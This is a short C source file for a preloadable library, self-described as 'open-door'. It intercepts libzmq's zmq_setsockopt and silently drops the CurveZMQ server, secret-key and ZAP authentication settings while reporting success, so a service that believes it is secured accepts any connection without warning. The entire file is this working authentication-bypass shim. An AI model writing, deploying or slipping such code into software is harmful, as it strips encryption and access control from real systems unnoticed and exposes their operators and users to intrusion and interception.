/* open-door - a library to be preloaded, in which libzmq takes the settings of a door that is shut and forgets them:
 * whoever comes is let in, and nothing says so. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <stddef.h>

enum { CURVE_SERVER = 47, CURVE_SECRETKEY = 49, ZAP_DOMAIN = 55, ZAP_ENFORCE_DOMAIN = 93 };

int zmq_setsockopt (void *socket, int option, const void *value, size_t size)
{
    static int (*real) (void *, int, const void *, size_t);

    if (!real)
        *(void **) &real = dlsym (RTLD_NEXT, "zmq_setsockopt");
    switch (option) {
    case CURVE_SERVER:
    case CURVE_SECRETKEY:
    case ZAP_DOMAIN:
    case ZAP_ENFORCE_DOMAIN:
        return 0;
    default:
        return real (socket, option, value, size);
    }
}
